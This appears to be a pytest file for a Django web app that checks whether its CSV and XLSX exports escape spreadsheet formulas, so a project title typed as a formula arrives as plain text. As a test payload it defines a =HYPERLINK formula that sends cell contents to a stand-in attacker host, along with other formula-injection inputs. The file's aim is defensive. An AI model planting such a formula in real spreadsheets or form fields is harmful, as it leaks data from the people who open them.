"""Exports cannot carry a live formula: a title typed as `=HYPERLINK(…)` arrives as text in the CSV
and the XLSX of every list (web.exports is the one place they are written)."""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from tests.projects.factories import ProjectFactory
from tests.web.personas import PersonaClient
from web.exports import csv_cell, neutralise

pytestmark = pytest.mark.django_db

EVIL_TITLE = '=HYPERLINK("http://attaquant.example/vol?d="&A1;"Cliquez ici")'


def _csv_rows(response) -> list[list[str]]:  # type: ignore[no-untyped-def]
    text = b"".join(response.streaming_content).decode("utf-8-sig")
    return list(csv.reader(io.StringIO(text), delimiter=";"))


def test_a_formula_typed_as_a_ptai_title_is_text_in_the_csv_export(ministry: PersonaClient) -> None:
    project = ProjectFactory(submitted=True, title=EVIL_TITLE)
    rows = _csv_rows(ministry.get(reverse("web:project_csv")))
    row = next(row for row in rows if row[0] == project.reference)
    assert "'" + EVIL_TITLE in row
    assert EVIL_TITLE not in row  # never as the cell's own text, which a spreadsheet would evaluate


def test_a_formula_typed_as_a_ptai_title_is_a_string_cell_in_the_xlsx_export(ministry: PersonaClient) -> None:
    project = ProjectFactory(submitted=True, title=EVIL_TITLE)
    response = ministry.get(reverse("web:project_xlsx"))
    workbook = load_workbook(io.BytesIO(b"".join(response.streaming_content)))
    sheet = workbook.active
    row = next(row for row in sheet.iter_rows(min_row=2) if row[0].value == project.reference)
    cells = [cell for cell in row if cell.value == EVIL_TITLE]
    assert len(cells) == 1
    assert cells[0].data_type == "s"  # a string, not "f" (formula)


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+33 4 76 00 00 00", "'+33 4 76 00 00 00"),
        ("-moins", "'-moins"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tcmd", "'\tcmd"),
        ("\rcmd", "'\rcmd"),
        ("Grenoble = ville", "Grenoble = ville"),
        ("", ""),
    ],
)
def test_text_that_a_spreadsheet_would_evaluate_is_neutralised(value: str, written: str) -> None:
    assert neutralise(value) == written
    assert csv_cell(value) == written


def test_numbers_and_dates_are_not_text_and_stay_as_they_are() -> None:
    assert csv_cell(Decimal("-1500.5")) == "-1500,50"  # a negative amount is still a number
    assert csv_cell(-3) == "-3"
    assert csv_cell(date(2026, 1, 31)) == "31/01/2026"
